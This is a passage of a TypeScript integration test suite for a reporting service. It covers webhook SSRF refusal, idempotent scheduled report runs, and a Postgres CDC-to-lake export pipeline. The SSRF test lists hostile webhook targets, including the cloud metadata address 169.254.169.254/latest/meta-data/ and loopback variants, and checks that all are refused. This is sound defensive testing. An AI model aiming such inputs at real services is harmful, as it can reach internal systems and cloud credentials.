    const listed = await startInstance('webhooks-listed', { SLUICE_REPORTS_WEBHOOK_ALLOWED_HOSTS: `127.0.0.1,localhost,169.254.169.254,::ffff:127.0.0.1` });
    const targets = [ssrfUrl, ssrfUrl.replace('127.0.0.1', 'localhost'), ssrfUrl.replace('127.0.0.1', '[::ffff:127.0.0.1]'), 'http://169.254.169.254/latest/meta-data/'];
    for (const [n, webhook] of targets.entries()) {
      const id = `ssrf-${n}-${run}`;
      await generate(listed, { request_id: id, month: '2026-12', notify: { webhook } });
      const done = await finalState(listed, id);
      expect(done.notifications, webhook).toEqual([{ channel: 'webhook', target: expect.stringMatching(/\/…$/), ok: false, error: 'refused: the host resolves to a private, loopback, link-local or reserved address' }]);
      expect(JSON.stringify(done)).not.toContain(`sluice-ssrf=${run}`);
    }
    // Connect never saw any of them (the control request proves its log records what it receives).
    expect(logged(`sluice-ssrf=${run}`), 'a forged webhook call in the Kafka Connect request log').toBe(false);
  });

  it('schedule: runSchedule on 1 November requests 2026-10 as scheduled-agent_commissions-2026-10; a second call is answered from its result', async () => {
    const i = await startInstance('schedule', { SLUICE_REPORTS_SCHEDULE: '0 6 1 * *' });
    const id = await i.reports.runSchedule(new Date('2026-11-01T06:00:00Z'));
    expect(id).toBe('scheduled-agent_commissions-2026-10');
    const status = await finalState(i, id);
    expect(status.request).toMatchObject({ month: '2026-10', report_type: 'agent_commissions', format: 'csv', requested_via: 'schedule' });
    expect(decodeURIComponent(new URL(status.download.url).pathname)).toBe(`/${settings.s3.bucket}/${i.reportsPrefix}agent_commissions/month=2026-10/${id}.csv`);
    const file = await download(status.download.url);
    expect(parseCsv(file.text).slice(1)).toEqual(expectedCsv);

    expect(await i.reports.runSchedule(new Date('2026-11-01T06:00:00Z'))).toBe(id);
    const repeated = await i.reports.store.waitFor(id, (s) => s.from_earlier_result === true, 30_000);
    expect(repeated.result?.generated_at).toBe(status.result.generated_at);

    // A restarted instance (same topics and group) rebuilds its view from report-status: the schedule firing again is still answered from the result.
    running.splice(running.indexOf(i.reports), 1);
    await i.reports.stop();
    const restarted = await startInstance('schedule', { SLUICE_REPORTS_SCHEDULE: '0 6 1 * *' });
    expect(restarted.reports.store.get(id)?.state, 'the view rebuilt from the status topic').toBe('succeeded');
    const before = restarted.reports.store.get(id)!.at;
    expect(await restarted.reports.runSchedule(new Date('2026-11-01T06:00:00Z'))).toBe(id);
    const afterRestart = await restarted.reports.store.waitFor(id, (s) => s.from_earlier_result === true && s.at > before, 30_000);
    expect(afterRestart.result?.generated_at).toBe(status.result.generated_at);

    const states = await statesOnTopic(restarted, id, (s) => s.filter((x) => x.from_earlier_result === true).length >= 2);
    // Computed once: one running, one fresh success; every later answer comes from that result. (A request
    // whose offset was not committed before the stop is answered once more after the restart: at least once.)
    const labels = states.map((s) => `${s.state}${s.from_earlier_result ? ' (from earlier result)' : ''}`);
    expect(labels.slice(0, 3)).toEqual(['queued', 'running', 'succeeded']);
    expect(labels.slice(3).length).toBeGreaterThanOrEqual(2);
    expect(new Set(labels.slice(3))).toEqual(new Set(['succeeded (from earlier result)']));
    expect(new Set(states.filter((s) => s.result).map((s) => s.result!.generated_at)).size).toBe(1);
  }, 90_000);

  it('through Postgres staging -> Debezium -> normalizer -> export: invalid rows and an UPDATE are left out, a pruned (deleted) row stays', async () => {
    await ensureCdcConnector(settings);
    const cdcEvents = `test.reports.${run}.cdc-events`;
    const normalizerDlq = `test.reports.${run}.cdc-dlq`;
    const cdcPrefix = `${base}/cdc-lake/agent_events/`;
    const A = `cdc-${run}-a`;
    const B = `cdc-${run}-b`;
    const sentinelAgent = `cdc-${run}-sentinel`;
    const row = (agent: string, overrides: Record<string, unknown> = {}) => ({
      event_id: randomUUID() as string,
      event_type: 'deposit_made',
      agent_id: agent,
      customer_id: `customer-${run}-1`,
      amount_minor: '1000' as string | null,
      currency: 'USD' as string | null,
      occurred_at: '2026-08-10T10:00:00.123456Z',
      received_at: '2026-08-10T10:00:02Z',
      source: 'web',
      ...overrides,
    });
    const valid = [
      row(A, { event_type: 'customer_onboarded', amount_minor: null, currency: null }),
      row(A, { event_type: 'customer_onboarded', amount_minor: null, currency: null, occurred_at: '2026-08-20T10:00:00Z', received_at: '2026-08-20T10:00:01Z' }), // the same customer again
      row(A, { amount_minor: (2n ** 53n + 3n).toString() }),
      row(A, { event_type: 'withdrawal_made', amount_minor: '500' }),
      row(A, { event_type: 'investment_made', amount_minor: '100000' }),
      row(B, { amount_minor: '555', occurred_at: '2026-09-01T00:00:00Z', received_at: '2026-09-01T00:00:01Z' }), // September
    ];
    const invalid: [string, ReturnType<typeof row>][] = [
      ['unknown_event_type', row(A, { event_type: 'loan_granted', amount_minor: '999999' })],
      ['missing_field:customer_id', row(A, { customer_id: null, amount_minor: '5000' })],
      ['missing_field:amount_minor', row(A, { event_type: 'withdrawal_made', amount_minor: null })],
      ['invalid_amount', row(A, { amount_minor: '0' })],
      ['currency_mismatch', row(A, { amount_minor: '70000', currency: 'EUR' })],
      ['invalid_timestamp', row(A, { amount_minor: '123', occurred_at: '2026-08-20T10:00:00Z', received_at: '2026-08-18T10:00:00Z' })],
    ];
    const updated = row(A, { amount_minor: '1000' });
    const pruned = row(B, { amount_minor: '777' });
    const sentinel = row(sentinelAgent, { event_type: 'customer_onboarded', amount_minor: null, currency: null });

    // On a fresh cluster the CDC topic only exists once Debezium has streamed a first change:
    // create it as Kafka Connect would (the connector's topic.creation settings), idempotently.
    const normalizer = await startTestNormalizer(kafka, settings, { name: base, eventsTopic: cdcEvents, dlqTopic: normalizerDlq });
    try {
      const pool = createPool(settings.database.url);
      const insert = (r: ReturnType<typeof row>) =>
        pool.query(
          `INSERT INTO staging.agent_events (event_id, event_type, agent_id, customer_id, amount_minor, currency, occurred_at, received_at, source) VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9)`,
          [r.event_id, r.event_type, r.agent_id, r.customer_id, r.amount_minor, r.currency, r.occurred_at, r.received_at, r.source],
        );
      try {
        for (const r of [...valid, ...invalid.map(([, r]) => r), updated, pruned]) await insert(r);
        // An UPDATE of a row: the original event stands (amount, currency and even the agent changed here).
        await pool.query(`UPDATE staging.agent_events SET amount_minor = 1, currency = 'EUR', agent_id = $2 WHERE event_id = $1`, [updated.event_id, B]);
        // Pruning: the row goes from staging, its event stays in the lake and the report.
        await pool.query(`DELETE FROM staging.agent_events WHERE event_id = $1`, [pruned.event_id]);
        await insert(sentinel);
      } finally {
        await pool.end();
      }
      const ours = new Set([A, B, sentinelAgent]);
      await collectUntilQuiet(kafka, cdcEvents, (ms) => ms.some((m) => m.key?.toString() === sentinelAgent) && ms.filter((m) => ours.has(m.key?.toString() ?? '')).length >= valid.length + 3, {
        timeoutMs: 90_000,
        quietMs: 1000,
      });
      const deadIds = new Map<string, string>([...invalid.map(([reason, r]): [string, string] => [r.event_id, reason]), [updated.event_id, 'immutable_event_mutated']]);
      const keyId = (m: KafkaMessage) => (JSON.parse(m.key?.toString() ?? '{}') as { event_id?: string }).event_id ?? '';
      const deadLetters = (await collectUntilQuiet(kafka, normalizerDlq, (ms) => ms.filter((m) => deadIds.has(keyId(m))).length >= deadIds.size, { quietMs: 500 })).filter((m) =>
        deadIds.has(keyId(m)),
      );
      expect(Object.fromEntries(deadLetters.map((m) => [keyId(m), readDeadLetterHeaders(m.headers)?.reason]))).toEqual(Object.fromEntries(deadIds));
    } finally {
      await normalizer.stop();
    }

    await exportUntilCommitted(kafka, { topic: cdcEvents, dlqTopic: `${cdcEvents}.export-dlq`, prefix: cdcPrefix, group: `${base}-cdc-export` });
    const i = await startInstance('cdc', { SLUICE_REPORTS_LAKE_PREFIX: cdcPrefix });
    const id = `cdc-${run}`;
    const agents = [A, B];
    await api(i, 'POST', '/reports/generate', { body: { request_id: id, report_type: 'agent_commissions', month: '2026-08', agent_ids: agents } }).then((a) => expect(a.status).toBe(202));
    const status = await finalState(i, id);
    const [header, ...rows] = parseCsv((await download(status.download.url)).text);
    expect(header).toEqual(REPORT_HEADER);
    // By hand: A = 2 onboardings of one customer, a deposit of 2^53+3, the updated deposit as first written (1000),
    // a withdrawal of 500, an investment of 100,000: tier reached; B = the pruned deposit of 777 (its September one is not August's).
    expect(rows).toEqual([
      [A, '2026-08', '6', '1', '9007199254741995', '500', '100000', '9007199254841495', '56294995345884', 'USD'],
      [B, '2026-08', '1', '0', '777', '0', '0', '777', '4', 'USD'],
    ]);
    const cdcLake = await LakeSql.download(settings, cdcPrefix);
    try {
      expect(rows).toEqual(await cdcLake.report('2026-08', 'USD', agents));
    } finally {
      cdcLake.close();
    }
  }, 150_000);
});
